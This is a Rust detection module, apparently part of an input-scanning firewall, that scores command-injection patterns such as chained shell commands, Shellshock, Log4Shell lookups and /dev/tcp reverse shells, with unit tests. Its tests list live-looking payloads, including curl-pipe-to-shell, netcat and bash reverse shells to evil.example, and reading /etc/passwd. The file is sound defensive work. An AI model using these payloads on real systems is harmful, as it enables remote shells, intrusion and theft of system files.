//! OS command injection: a shell separator or substitution followed by a command, shell
//! paths, Shellshock, and lookup injections that run code (Log4Shell's `${jndi:`).

use super::Hits;
use crate::text::{find_all, is_word_byte};

/// Scans a normalized value that keeps line breaks (`\n` separates shell commands).
pub fn scan(text: &str, hits: &mut Hits) {
    chained_commands(text, hits);
    substitutions(text, hits);
    markers(text, hits);
}

/// Commands that are unmistakable after a separator.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "wget",
    "curl",
    "netcat",
    "ncat",
    "bash",
    "zsh",
    "ksh",
    "powershell",
    "pwsh",
    "nslookup",
    "busybox",
    "ifconfig",
    "ipconfig",
    "mkfifo",
    "telnet",
    "chmod",
    "chown",
    "sudo",
    "xargs",
    "systeminfo",
    "tasklist",
    "certutil",
    "bitsadmin",
    "rundll32",
    "regsvr32",
    "mshta",
    "wmic",
    "hostname",
    "ping",
    "sleep",
];

/// Commands that are also words or list items (`nombre; id; fecha`): they count fully only
/// with shell-like arguments.
const AMBIGUOUS: &[&str] = &[
    "id", "ls", "sh", "ps", "pwd", "env", "echo", "cat", "rm", "python", "python3", "perl", "ruby",
    "php", "cmd", "dig", "nc", "dir", "grep", "awk", "sed", "net", "type",
];

/// How a command word is followed.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Follow {
    /// Shell-like arguments: an option, a path, a variable, a quote, a URL.
    Arguments,
    /// A number (`sleep 5`, `ping 10.0.0.1`): shell-like for a command, prose for a word.
    Numeric,
    /// Nothing, or another separator.
    End,
    /// Anything else (prose).
    Other,
}

fn follow(rest: &str) -> Follow {
    let bytes = rest.as_bytes();
    match bytes.first() {
        None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n' | b'>' | b'<') => Follow::End,
        Some(b'/' | b'$' | b'\\' | b'-' | b'~' | b'\'' | b'"') => Follow::Arguments,
        Some(b' ') => {
            let argument = &rest[1..];
            match argument.as_bytes().first() {
                None | Some(b';' | b'|' | b'&' | b'`' | b')' | b'\n') => Follow::End,
                Some(b'/' | b'$' | b'\\' | b'-' | b'.' | b'~' | b'\'' | b'"') => Follow::Arguments,
                Some(b'0'..=b'9') => Follow::Numeric,
                Some(_) if argument.starts_with("http") => Follow::Arguments,
                Some(_) => Follow::Other,
            }
        }
        Some(_) => Follow::Other,
    }
}

/// A separator (`;`, `|`, `||`, `&`, `&&`, a line break, a backtick, `$(`), then a command.
fn chained_commands(text: &str, hits: &mut Hits) {
    let bytes = text.as_bytes();
    for (at, &byte) in bytes.iter().enumerate() {
        let separator_len = match byte {
            b';' | b'|' | b'&' | b'\n' | b'`' => 1,
            b'$' if bytes.get(at + 1) == Some(&b'(') => 2,
            _ => continue,
        };
        let substitution = byte == b'`' || byte == b'$';
        let mut start = at + separator_len;
        // `||` and `&&` are one separator. Only one more is skipped: a long run of `&`
        // must not be rescanned from each of its bytes.
        if matches!(bytes.get(start), Some(b'|' | b'&')) {
            start += 1;
        }
        while bytes.get(start) == Some(&b' ') {
            start += 1;
        }
        let len = bytes[start..]
            .iter()
            .take_while(|&&b| is_word_byte(b) || b == b'.')
            .count();
        if len == 0 {
            continue;
        }
        // `cat` or `/bin/cat`, `cmd.exe`: the command word without a path or `.exe`.
        let word = &text[start..start + len];
        let command = word.strip_suffix(".exe").unwrap_or(word);
        let strong = STRONG.contains(&command);
        if !strong && !AMBIGUOUS.contains(&command) {
            continue;
        }
        let follows = follow(&text[start + len..]);
        let score = match (strong || substitution, follows) {
            (true, Follow::Arguments | Follow::Numeric | Follow::End) => 9,
            (false, Follow::Arguments) => 9,
            (true, Follow::Other) => 5,
            (false, Follow::Numeric | Follow::End) => 4,
            (false, Follow::Other) => continue,
        };
        let signature = if substitution {
            "command_substitution"
        } else if score >= 9 {
            "chained_command"
        } else {
            "chained_command_weak"
        };
        hits.add(signature, score, at);
    }
}

/// `$(...)` and backtick pairs around something that is not a known command.
fn substitutions(text: &str, hits: &mut Hits) {
    let bytes = text.as_bytes();
    let last_close = text.rfind(')');
    for at in find_all(text, "$(") {
        if bytes.get(at + 2).is_some_and(u8::is_ascii_alphabetic) && last_close > Some(at) {
            hits.add("command_substitution", 6, at);
            break;
        }
    }
    if let Some(open) = text.find('`') {
        let inner = &text[open + 1..];
        if let Some(close) = inner.find('`') {
            if inner[..close].bytes().any(|b| b.is_ascii_alphabetic()) {
                hits.add("backtick_pair", 3, open);
            }
        }
    }
}

/// Fixed markers of shell and code-execution payloads.
fn markers(text: &str, hits: &mut Hits) {
    const MARKERS: &[(&str, &str, u32)] = &[
        ("() {", "shellshock", 10),
        ("(){", "shellshock", 10),
        ("${jndi:", "jndi_lookup", 10),
        ("${${", "lookup_obfuscation", 9),
        ("${lower:", "lookup_obfuscation", 9),
        ("${upper:", "lookup_obfuscation", 9),
        ("${env:", "lookup_obfuscation", 9),
        ("${::-", "lookup_obfuscation", 9),
        ("/dev/tcp/", "reverse_shell", 9),
        ("/dev/udp/", "reverse_shell", 9),
        ("/bin/sh", "shell_path", 7),
        ("/bin/bash", "shell_path", 7),
        ("/bin/zsh", "shell_path", 7),
        ("/bin/busybox", "shell_path", 7),
        ("/usr/bin/env", "shell_path", 7),
        ("cmd.exe", "shell_path", 7),
        ("cmd /c", "shell_path", 7),
        ("powershell.exe", "shell_path", 7),
        ("powershell -", "shell_path", 7),
        ("${ifs}", "ifs_evasion", 8),
        ("$ifs", "ifs_evasion", 8),
    ];
    for (needle, signature, score) in MARKERS {
        if let Some(at) = crate::text::find(text, needle) {
            hits.add(signature, *score, at);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::detect::testing::{scan, score};
    use crate::detect::Category::Cmdi;

    #[test]
    fn blatant_payloads_score_high() {
        for payload in [
            "127.0.0.1; cat /etc/passwd",
            "x | whoami",
            "x && curl http://evil.example/s.sh | sh",
            "$(whoami)",
            "`id`",
            "foo\nwget http://evil.example/x",
            "() { :; }; /bin/bash -c 'id'",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "1;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "x;cat${IFS}/etc/passwd",
            "| nc -e /bin/sh evil.example 4444",
            "& ping -n 10 127.0.0.1 &",
            "||ls -la",
            "; sleep 5",
        ] {
            assert!(
                score(Cmdi, payload) >= 9,
                "{payload}: {:?}",
                scan(Cmdi, payload)
            );
        }
    }

    #[test]
    fn signatures_are_named() {
        assert_eq!(scan(Cmdi, "; cat /etc/passwd").1, vec!["chained_command"]);
        assert_eq!(scan(Cmdi, "$(id)").1, vec!["command_substitution"]);
        assert_eq!(scan(Cmdi, "() { :; };").1, vec!["shellshock"]);
        assert_eq!(scan(Cmdi, "${jndi:dns://x}").1, vec!["jndi_lookup"]);
    }

    #[test]
    fn ambiguous_words_need_shell_syntax() {
        assert_eq!(score(Cmdi, "nombre; id; fecha"), 4);
        assert_eq!(score(Cmdi, "Lenguajes: Java; Python; Go"), 4);
        assert_eq!(score(Cmdi, "; cat notas"), 0);
        assert_eq!(score(Cmdi, "; cat -n notas"), 9);
        assert_eq!(score(Cmdi, "nombre; id 123"), 4);
        assert_eq!(score(Cmdi, "Pérez; dir. Av. Arce"), 0);
    }

    #[test]
    fn ordinary_text_scores_low() {
        for text in [
            "Hernández & Hijos | Ltda.",
            "Pérez; Gómez; López",
            "R&D; id del trámite",
            "Tom & Jerry",
            "Precio: $100 (cien)",
            "Estado: pendiente | aprobado | rechazado",
            "Usar `nombre` y `apellido` en el formulario",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
            "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
            "curl/8.5.0",
            "ZWNobyBoZWxsbyB3b3JsZAo=",
            "2024-01-15; 2024-02-15",
            "Línea 1\nLínea 2\nFirma",
        ] {
            assert!(score(Cmdi, text) < 6, "{text}: {:?}", scan(Cmdi, text));
        }
    }
}
